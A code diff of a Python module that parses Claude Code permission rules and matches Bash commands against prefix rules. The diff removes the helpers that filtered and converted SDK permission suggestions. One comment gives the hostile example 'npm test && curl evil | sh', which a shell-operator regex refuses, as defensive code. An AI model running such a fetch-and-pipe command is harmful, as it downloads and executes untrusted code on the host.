@@ -1,4 +1,4 @@
-"""Permission rules: the SDK's suggestions, made safe, and the team allow-list.
+"""Permission rules in Claude Code's string form, and how they match a tool call.
 
 A rule is Claude Code's string form: ``Tool`` (any call of the tool) or
 ``Tool(content)``. For Bash, ``prefix *`` (or the older ``prefix:*``) means
@@ -15,17 +15,10 @@ import re
 from dataclasses import dataclass
 from typing import Any
 
-from claude_agent_sdk import PermissionUpdate
-from claude_agent_sdk.types import PermissionRuleValue
-
 # Shell syntax that chains, substitutes or redirects: a prefix rule must not
 # approve "npm test && curl evil | sh". Claude Code splits such commands and
 # asks for each part; this matcher simply refuses them.
 _SHELL_OPERATORS = re.compile(r"[;&|<>`\n\r]|\$\(")
-
-# Suggestions that change what the agent may do without asking again. Mode
-# changes (acceptEdits, bypassPermissions) are never taken from Slack.
-_KEPT_TYPES = ("addRules", "replaceRules", "addDirectories")
 
 
 @dataclass(frozen=True)
@@ -102,37 +95,5 @@ def _command_matches(content: str, command: str) -> bool:
     return command == prefix or command.startswith(prefix + " ")
 
 
-def safe_suggestions(suggestions: list[PermissionUpdate]) -> list[dict[str, Any]]:
-    """The suggestions Slack may grant, as storable dicts, scoped to the session.
-
-    ``localSettings`` & co. would write the agent host's settings files, and a
-    ``setMode`` would stop the agent asking at all: neither is taken.
-    """
-    kept = []
-    for update in suggestions:
-        if update.type not in _KEPT_TYPES:
-            continue
-        if update.type == "addDirectories":
-            if update.directories:
-                kept.append({"type": update.type, "directories": list(update.directories)})
-            continue
-        rules = [str(Rule(r.tool_name, r.rule_content or "")) for r in update.rules or []]
-        if rules and update.behavior == "allow":
-            kept.append({"type": update.type, "rules": rules, "behavior": "allow"})
-    return kept
-
-
 def suggested_rules(stored: list[dict[str, Any]]) -> list[Rule]:
     return [Rule.parse(r) for update in stored for r in update.get("rules", [])]
-
-
-def to_permission_updates(stored: list[dict[str, Any]]) -> list[PermissionUpdate]:
-    """Back to the SDK's type, always with ``destination="session"``."""
-    updates = []
-    for update in stored:
-        if update["type"] == "addDirectories":
-            updates.append(PermissionUpdate(type="addDirectories", directories=update["directories"], destination="session"))
-        else:
-            rules = [PermissionRuleValue(tool_name=r.tool, rule_content=r.content or None) for r in map(Rule.parse, update["rules"])]
-            updates.append(PermissionUpdate(type=update["type"], rules=rules, behavior="allow", destination="session"))
-    return updates
